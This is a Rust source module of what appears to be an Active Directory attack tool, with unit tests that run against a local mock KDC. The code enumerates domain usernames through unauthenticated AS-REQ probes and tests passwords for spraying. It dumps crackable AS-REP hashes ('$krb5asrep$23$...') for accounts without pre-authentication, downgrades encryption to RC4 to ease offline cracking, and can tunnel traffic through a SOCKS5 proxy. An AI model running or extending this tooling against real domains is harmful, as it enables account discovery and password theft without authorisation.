use crate::communication::{
    resolve_kdcs_with, KdcTransport, Kdcs, Socks5Proxy, SrvResolver, SystemSrvResolver,
};
use crate::error::{Error, KdcErrorKind, Result};
use crate::kerberos::hash::{as_rep_to_crack_string, as_rep_username, CrackFormat, HashSink};
use crate::kerberos::kdc_req::build_as_req;
use crate::kerberos::krb5conf::{enctype_name, render_krb5_conf, Krb5Config};
use crate::kerberos::login;
use crate::kerberos::senders::{send_recv_as, Rep};
use crate::logger::{Logger, DEFAULT_TARGET};
use kerberos_asn1::AsRep;
use kerberos_constants::etypes;

#[derive(Debug, Clone, Default)]
pub struct SessionOptions {
    pub domain: String,
    pub domain_controller: Option<String>,
    pub verbose: bool,
    pub safe_mode: bool,
    pub downgrade: bool,
    pub hash_filename: Option<String>,
    pub hash_format: CrackFormat,
    pub socks5_proxy: Option<String>,
    pub socks5_username: Option<String>,
    pub socks5_password: Option<String>,
    pub logger: Option<Logger>,
}

/// What the KDC revealed about an account when asked without
/// pre-authentication.
#[derive(Debug)]
pub enum UsernameStatus {
    PreauthRequired,
    NoPreauth(AsRep),
}

/// Probing context of a single realm. Immutable once built, so it can be
/// shared between worker threads.
#[derive(Debug)]
pub struct Session {
    domain: String,
    realm: String,
    config_string: String,
    config: Krb5Config,
    transport: KdcTransport,
    hash_sink: Option<HashSink>,
    hash_format: CrackFormat,
    safe_mode: bool,
    verbose: bool,
    logger: Logger,
}

impl Session {
    pub fn new(options: SessionOptions) -> Result<Self> {
        Self::with_resolver(options, &SystemSrvResolver)
    }

    /// Builds the session discovering KDCs through the given SRV resolver
    /// when no domain controller is set.
    pub fn with_resolver(
        options: SessionOptions,
        resolver: &dyn SrvResolver,
    ) -> Result<Self> {
        if options.domain.trim().is_empty() {
            return Err(Error::Config("Domain must not be empty".into()));
        }

        let logger = options
            .logger
            .clone()
            .unwrap_or_else(|| Logger::new(options.verbose, DEFAULT_TARGET));

        let hash_sink = match options.hash_filename.as_deref() {
            Some(filename) if !filename.is_empty() => {
                let sink = HashSink::open(filename)?;
                logger.info(format!(
                    "Saving any captured hashes to {}",
                    sink.path().display()
                ));
                if !options.downgrade {
                    logger.warn(
                        "You are capturing AS-REPs, but not downgrading encryption. \
                         You probably want to downgrade to arcfour-hmac-md5 (--downgrade) \
                         to crack them with a user's password instead of AES keys",
                    );
                }
                Some(sink)
            }
            _ => None,
        };

        let realm = options.domain.to_uppercase();
        let config_string =
            render_krb5_conf(&realm, options.domain_controller.as_deref());
        let mut config = Krb5Config::parse(&config_string)?;

        if let Some(proxy) = options.socks5_proxy.as_deref().filter(|p| !p.is_empty()) {
            config.enable_socks5(Socks5Proxy::new(
                proxy,
                options.socks5_username.clone().filter(|u| !u.is_empty()),
                options.socks5_password.clone().filter(|p| !p.is_empty()),
            ));
            logger.info(format!("Using SOCKS5 proxy: {}", proxy));

            if let Some(username) = options.socks5_username.as_deref().filter(|u| !u.is_empty()) {
                if options.socks5_password.as_deref().map_or(false, |p| !p.is_empty()) {
                    logger.info(format!(
                        "Using SOCKS5 proxy authentication with username: {}",
                        username
                    ));
                } else {
                    logger.info(format!(
                        "Using SOCKS5 proxy with username: {} but no password",
                        username
                    ));
                }
            }
        }

        if options.downgrade {
            config.downgrade_to_rc4();
            logger.info(format!(
                "Using downgraded encryption: {}",
                enctype_name(etypes::RC4_HMAC)
            ));
        }

        let kdcs = resolve_kdcs_with(&config, &realm, resolver, &logger)?;
        let transport = KdcTransport::new(
            kdcs,
            config.lib_defaults.udp_preference_limit,
            config.socks5.clone(),
        );

        Ok(Self {
            domain: options.domain,
            realm,
            config_string,
            config,
            transport,
            hash_sink,
            hash_format: options.hash_format,
            safe_mode: options.safe_mode,
            verbose: options.verbose,
            logger,
        })
    }

    pub fn domain(&self) -> &str {
        &self.domain
    }

    pub fn realm(&self) -> &str {
        &self.realm
    }

    pub fn kdcs(&self) -> &Kdcs {
        self.transport.kdcs()
    }

    pub fn config(&self) -> &Krb5Config {
        &self.config
    }

    pub fn config_string(&self) -> &str {
        &self.config_string
    }

    pub fn safe_mode(&self) -> bool {
        self.safe_mode
    }

    pub fn verbose(&self) -> bool {
        self.verbose
    }

    pub fn logger(&self) -> &Logger {
        &self.logger
    }

    /// Full pre-authenticated AS exchange. `Ok(true)` means the password
    /// is valid; KDC refusals come back as `Error::Kerberos`.
    pub fn test_login(&self, username: &str, password: &str) -> Result<bool> {
        login::login(
            &self.realm,
            username,
            password,
            self.config.permitted_etypes(),
            &self.transport,
            &self.logger,
        )
    }

    /// `Ok(true)` when the username exists. Accounts that do not require
    /// pre-authentication get their AS-REP hash dumped.
    pub fn test_username(&self, username: &str) -> Result<bool> {
        match self.probe_username(username)? {
            UsernameStatus::PreauthRequired => Ok(true),
            UsernameStatus::NoPreauth(as_rep) => {
                self.dump_as_rep_hash(&as_rep);
                Ok(true)
            }
        }
    }

    pub fn probe_username(&self, username: &str) -> Result<UsernameStatus> {
        let as_req = build_as_req(
            &self.realm,
            username,
            self.config.permitted_etypes(),
            None,
        )?;

        match send_recv_as(&self.transport, &as_req, &self.logger)? {
            Rep::AsRep(as_rep) => Ok(UsernameStatus::NoPreauth(as_rep)),
            Rep::KrbError(krb_error) => {
                match KdcErrorKind::from(krb_error.error_code) {
                    KdcErrorKind::PreauthRequired => {
                        Ok(UsernameStatus::PreauthRequired)
                    }
                    _ => Err(Error::Kerberos(krb_error)),
                }
            }
        }
    }

    pub fn dump_as_rep_hash(&self, as_rep: &AsRep) {
        let principal = as_rep_username(as_rep);

        let hash = match as_rep_to_crack_string(as_rep, self.hash_format) {
            Ok(hash) => hash,
            Err(err) => {
                self.logger.debug(format!(
                    "[!] Got encrypted TGT for {}, but couldn't convert to hash: {}",
                    principal, err
                ));
                return;
            }
        };

        self.logger.notice(format!(
            "{} has no pre auth required. Dumping hash to crack offline:\n{}",
            principal, hash
        ));

        if let Some(sink) = &self.hash_sink {
            if let Err(err) = sink.append(&hash) {
                self.logger.error(format!("Error writing hash to file: {}", err));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use kerberos_asn1::{
        AsReq, Asn1Object, EncAsRepPart, EncryptedData, EtypeInfo2, EtypeInfo2Entry,
        KrbError, MethodData, PaData, PrincipalName,
    };
    use kerberos_constants::key_usages::{
        KEY_USAGE_AS_REP_ENC_PART, KEY_USAGE_AS_REQ_TIMESTAMP,
    };
    use kerberos_constants::{error_codes, pa_data_types, principal_names};
    use crate::communication::SrvRecord;
    use kerberos_crypto::new_kerberos_cipher;
    use std::cell::RefCell;
    use std::fs;
    use std::net::UdpSocket;
    use std::thread;

    const PASSWORD: &str = "Winter2024!";

    fn krb_error(code: i32) -> Vec<u8> {
        let mut krb_error = KrbError::default();
        krb_error.error_code = code;
        krb_error.realm = "EXAMPLE.COM".into();
        krb_error.build()
    }

    fn as_rep_for(username: &str, cipher: Vec<u8>) -> Vec<u8> {
        let mut as_rep = AsRep::default();
        as_rep.crealm = "EXAMPLE.COM".into();
        as_rep.cname = PrincipalName {
            name_type: principal_names::NT_PRINCIPAL,
            name_string: vec![username.to_string()],
        };
        as_rep.enc_part = EncryptedData::new(etypes::RC4_HMAC, None, cipher);
        as_rep.build()
    }

    fn user_key(username: &str) -> Vec<u8> {
        let cipher = new_kerberos_cipher(etypes::RC4_HMAC).unwrap();
        let salt = cipher.generate_salt("EXAMPLE.COM", username);
        cipher.generate_key_from_string(PASSWORD, &salt)
    }

    // Small realm: "alice" requires pre-auth and has PASSWORD, "roastme"
    // does not require pre-auth, everyone else is unknown.
    fn kdc_reply(raw_req: &[u8]) -> Vec<u8> {
        let (_, as_req) = AsReq::parse(raw_req).unwrap();
        let username = as_req.req_body.cname.unwrap().name_string[0].clone();
        let cipher = new_kerberos_cipher(etypes::RC4_HMAC).unwrap();

        match username.as_str() {
            "roastme" => as_rep_for("roastme", vec![0x41; 64]),
            "alice" => {
                let timestamp = as_req.padata.unwrap_or_default().into_iter().find(
                    |padata| padata.padata_type == pa_data_types::PA_ENC_TIMESTAMP,
                );
                let timestamp = match timestamp {
                    Some(timestamp) => timestamp,
                    None => return krb_error(error_codes::KDC_ERR_PREAUTH_REQUIRED),
                };

                let (_, enc_data) =
                    EncryptedData::parse(&timestamp.padata_value).unwrap();
                let key = user_key("alice");
                if cipher
                    .decrypt(&key, KEY_USAGE_AS_REQ_TIMESTAMP, &enc_data.cipher)
                    .is_err()
                {
                    return krb_error(error_codes::KDC_ERR_PREAUTH_FAILED);
                }

                let enc_part = cipher.encrypt(
                    &key,
                    KEY_USAGE_AS_REP_ENC_PART,
                    &EncAsRepPart::default().build(),
                );
                as_rep_for("alice", enc_part)
            }
            _ => krb_error(error_codes::KDC_ERR_C_PRINCIPAL_UNKNOWN),
        }
    }

    fn spawn_kdc<F>(requests: usize, reply: F) -> (String, thread::JoinHandle<()>)
    where
        F: Fn(&[u8]) -> Vec<u8> + Send + 'static,
    {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        let address = socket.local_addr().unwrap().to_string();

        let handle = thread::spawn(move || {
            let mut buf = [0u8; 4096];
            for _ in 0..requests {
                let (len, peer) = socket.recv_from(&mut buf).unwrap();
                socket.send_to(&reply(&buf[..len]), peer).unwrap();
            }
        });

        (address, handle)
    }

    fn session_for(dc: &str, hash_file: Option<String>) -> Session {
        Session::new(SessionOptions {
            domain: "example.com".into(),
            domain_controller: Some(dc.into()),
            downgrade: true,
            hash_filename: hash_file,
            ..Default::default()
        })
        .unwrap()
    }

    fn line_count(path: &std::path::Path) -> usize {
        fs::read_to_string(path).unwrap_or_default().lines().count()
    }

    #[test]
    fn test_realm_is_uppercase_domain() {
        let session = session_for("dc1.example.com", None);
        assert_eq!(session.domain(), "example.com");
        assert_eq!(session.realm(), "EXAMPLE.COM");
    }

    #[test]
    fn test_explicit_dc_config() {
        let session = Session::new(SessionOptions {
            domain: "example.com".into(),
            domain_controller: Some("dc1.example.com".into()),
            ..Default::default()
        })
        .unwrap();

        assert!(session.config_string().contains("kdc = dc1.example.com"));
        assert_eq!(session.kdcs().len(), 1);
        assert_eq!(session.kdcs().get(&1).unwrap(), "dc1.example.com:88");
        assert_eq!(session.config().permitted_etypes(), &[18, 17, 23]);
    }

    struct RecordingResolver {
        records: Vec<SrvRecord>,
        queries: RefCell<Vec<String>>,
    }

    impl RecordingResolver {
        fn new(records: Vec<SrvRecord>) -> Self {
            Self {
                records,
                queries: RefCell::new(Vec::new()),
            }
        }
    }

    impl SrvResolver for RecordingResolver {
        fn lookup_srv(&self, name: &str) -> std::result::Result<Vec<SrvRecord>, String> {
            self.queries.borrow_mut().push(name.to_string());
            Ok(self.records.clone())
        }
    }

    #[test]
    fn test_dns_template_without_dc() {
        let resolver = RecordingResolver::new(vec![SrvRecord {
            priority: 0,
            port: 88,
            target: "dc1.example.com.".into(),
        }]);
        let session = Session::with_resolver(
            SessionOptions {
                domain: "example.com".into(),
                ..Default::default()
            },
            &resolver,
        )
        .unwrap();

        assert!(session.config_string().contains("dns_lookup_kdc = true"));
        assert!(!session.config_string().contains("[realms]"));
        assert_eq!(
            *resolver.queries.borrow(),
            vec!["_kerberos._udp.EXAMPLE.COM."]
        );
        assert_eq!(session.kdcs().get(&1).unwrap(), "dc1.example.com:88");
    }

    #[test]
    fn test_blank_dc_uses_dns_discovery() {
        let resolver = RecordingResolver::new(Vec::new());
        let err = Session::with_resolver(
            SessionOptions {
                domain: "example.com".into(),
                domain_controller: Some("".into()),
                ..Default::default()
            },
            &resolver,
        )
        .unwrap_err();

        assert!(err.is_config_error());
        assert!(err.to_string().contains("EXAMPLE.COM"));
        assert_eq!(
            *resolver.queries.borrow(),
            vec!["_kerberos._udp.EXAMPLE.COM.", "_kerberos._tcp.EXAMPLE.COM."]
        );
    }

    #[test]
    fn test_downgrade_restricts_etypes() {
        let session = session_for("dc1.example.com", None);
        assert_eq!(session.config().permitted_etypes(), &[23]);
    }

    #[test]
    fn test_empty_domain_rejected() {
        let err = Session::new(SessionOptions::default()).unwrap_err();
        assert!(err.is_config_error());
    }

    #[test]
    fn test_socks5_proxy_configured() {
        let session = Session::new(SessionOptions {
            domain: "example.com".into(),
            domain_controller: Some("10.0.0.1".into()),
            socks5_proxy: Some("127.0.0.1:1080".into()),
            socks5_username: Some("operator".into()),
            socks5_password: Some("hunter2".into()),
            ..Default::default()
        })
        .unwrap();

        let proxy = session.config().socks5.as_ref().unwrap();
        assert_eq!(proxy.address, "127.0.0.1:1080");
        assert_eq!(proxy.username.as_deref(), Some("operator"));
        assert!(!format!("{:?}", session).contains("hunter2"));
    }

    #[test]
    fn test_session_is_send_and_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<Session>();
    }

    #[test]
    fn test_username_preauth_required() {
        let dir = tempfile::tempdir().unwrap();
        let hash_path = dir.path().join("hashes.txt");
        let (address, handle) = spawn_kdc(1, kdc_reply);

        let session =
            session_for(&address, Some(hash_path.to_string_lossy().to_string()));
        assert!(session.test_username("alice").unwrap());
        handle.join().unwrap();

        assert_eq!(line_count(&hash_path), 0);
    }

    #[test]
    fn test_username_without_preauth_dumps_hash() {
        let dir = tempfile::tempdir().unwrap();
        let hash_path = dir.path().join("hashes.txt");
        fs::write(&hash_path, "previous\n").unwrap();
        let (address, handle) = spawn_kdc(1, kdc_reply);

        let session =
            session_for(&address, Some(hash_path.to_string_lossy().to_string()));
        assert!(session.test_username("roastme").unwrap());
        handle.join().unwrap();

        let content = fs::read_to_string(&hash_path).unwrap();
        let lines: Vec<&str> = content.lines().collect();
        assert_eq!(lines.len(), 2);
        assert_eq!(lines[0], "previous");
        assert!(lines[1].starts_with("$krb5asrep$23$roastme@EXAMPLE.COM:"));
    }

    #[test]
    fn test_username_unknown() {
        let dir = tempfile::tempdir().unwrap();
        let hash_path = dir.path().join("hashes.txt");
        let (address, handle) = spawn_kdc(1, kdc_reply);

        let session =
            session_for(&address, Some(hash_path.to_string_lossy().to_string()));
        let err = session.test_username("nobody").unwrap_err();
        handle.join().unwrap();

        assert_eq!(err.kdc_error_kind(), Some(KdcErrorKind::PrincipalUnknown));
        assert_eq!(line_count(&hash_path), 0);
    }

    #[test]
    fn test_probe_username_status() {
        let (address, handle) = spawn_kdc(2, kdc_reply);
        let session = session_for(&address, None);

        assert!(matches!(
            session.probe_username("alice").unwrap(),
            UsernameStatus::PreauthRequired
        ));
        match session.probe_username("roastme").unwrap() {
            UsernameStatus::NoPreauth(as_rep) => assert_eq!(as_rep.crealm, "EXAMPLE.COM"),
            _ => panic!("expected AS-REP"),
        }
        handle.join().unwrap();
    }

    #[test]
    fn test_username_empty_is_rejected_before_sending() {
        let session = session_for("127.0.0.1:9", None);
        assert!(session.test_username("").unwrap_err().is_config_error());
        assert!(session.test_login("", "x").unwrap_err().is_config_error());
    }

    #[test]
    fn test_login_valid_credentials() {
        let (address, handle) = spawn_kdc(1, kdc_reply);
        let session = session_for(&address, None);

        assert!(session.test_login("alice", PASSWORD).unwrap());
        handle.join().unwrap();
    }

    const ALICE_SALT: &[u8] = b"EXAMPLE.COMAlice";

    // AES only account whose key was derived from the sAMAccountName
    // "Alice", so logging in as "alice" needs the salt the KDC advertises.
    fn salted_kdc_reply(raw_req: &[u8]) -> Vec<u8> {
        let (_, as_req) = AsReq::parse(raw_req).unwrap();
        let cipher = new_kerberos_cipher(etypes::AES256_CTS_HMAC_SHA1_96).unwrap();
        let key = cipher.generate_key_from_string(PASSWORD, ALICE_SALT);

        let refusal = || {
            let etype_info2: EtypeInfo2 = vec![EtypeInfo2Entry {
                etype: etypes::AES256_CTS_HMAC_SHA1_96,
                salt: Some(String::from_utf8(ALICE_SALT.to_vec()).unwrap()),
                s2kparams: None,
            }];
            let method_data: MethodData = vec![PaData::new(
                pa_data_types::PA_ETYPE_INFO2,
                etype_info2.build(),
            )];
            let mut krb_error = KrbError::default();
            krb_error.error_code = error_codes::KDC_ERR_PREAUTH_FAILED;
            krb_error.realm = "EXAMPLE.COM".into();
            krb_error.e_data = Some(method_data.build());
            krb_error.build()
        };

        let timestamp = as_req
            .padata
            .unwrap_or_default()
            .into_iter()
            .find(|padata| padata.padata_type == pa_data_types::PA_ENC_TIMESTAMP);
        let (_, enc_data) = match &timestamp {
            Some(timestamp) => EncryptedData::parse(&timestamp.padata_value).unwrap(),
            None => return refusal(),
        };

        if enc_data.etype != etypes::AES256_CTS_HMAC_SHA1_96
            || cipher
                .decrypt(&key, KEY_USAGE_AS_REQ_TIMESTAMP, &enc_data.cipher)
                .is_err()
        {
            return refusal();
        }

        let mut as_rep = AsRep::default();
        as_rep.crealm = "EXAMPLE.COM".into();
        as_rep.cname = PrincipalName {
            name_type: principal_names::NT_PRINCIPAL,
            name_string: vec!["Alice".into()],
        };
        as_rep.enc_part = EncryptedData::new(
            etypes::AES256_CTS_HMAC_SHA1_96,
            None,
            cipher.encrypt(
                &key,
                KEY_USAGE_AS_REP_ENC_PART,
                &EncAsRepPart::default().build(),
            ),
        );
        as_rep.build()
    }

    fn aes_session_for(dc: &str) -> Session {
        Session::new(SessionOptions {
            domain: "example.com".into(),
            domain_controller: Some(dc.into()),
            ..Default::default()
        })
        .unwrap()
    }

    #[test]
    fn test_login_retries_with_kdc_salt() {
        let (address, handle) = spawn_kdc(2, salted_kdc_reply);
        let session = aes_session_for(&address);

        assert!(session.test_login("alice", PASSWORD).unwrap());
        handle.join().unwrap();
    }

    #[test]
    fn test_login_retry_with_kdc_salt_and_wrong_password() {
        let (address, handle) = spawn_kdc(2, salted_kdc_reply);
        let session = aes_session_for(&address);

        let err = session.test_login("alice", "Spring2024!").unwrap_err();
        handle.join().unwrap();

        assert_eq!(err.kdc_error_kind(), Some(KdcErrorKind::PreauthFailed));
    }

    #[test]
    fn test_login_wrong_password() {
        let (address, handle) = spawn_kdc(1, kdc_reply);
        let session = session_for(&address, None);

        let result = session.test_login("alice", "nope");
        handle.join().unwrap();

        let err = result.unwrap_err();
        assert_eq!(err.kdc_error_kind(), Some(KdcErrorKind::PreauthFailed));
        assert_eq!(
            crate::error::ProbeOutcome::from_error(&err),
            crate::error::ProbeOutcome::BadCredentials
        );
    }

    #[test]
    fn test_login_against_no_preauth_account_with_wrong_password() {
        let (address, handle) = spawn_kdc(1, kdc_reply);
        let session = session_for(&address, None);

        let result = session.test_login("roastme", "guess");
        handle.join().unwrap();

        assert!(matches!(result, Err(Error::Credentials(_))));
    }

    #[test]
    fn test_login_malformed_reply() {
        let (address, handle) = spawn_kdc(1, |_| vec![0x13, 0x37, 0x00]);
        let session = session_for(&address, None);

        let result = session.test_login("alice", PASSWORD);
        handle.join().unwrap();

        assert!(matches!(result, Err(Error::Protocol(_))));
    }

    #[test]
    fn test_dump_hash_with_unsupported_etype_writes_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let hash_path = dir.path().join("hashes.txt");
        let session = session_for(
            "dc1.example.com",
            Some(hash_path.to_string_lossy().to_string()),
        );

        let mut as_rep = AsRep::default();
        as_rep.enc_part = EncryptedData::new(3, None, vec![0; 32]);
        session.dump_as_rep_hash(&as_rep);

        assert_eq!(line_count(&hash_path), 0);
    }
}
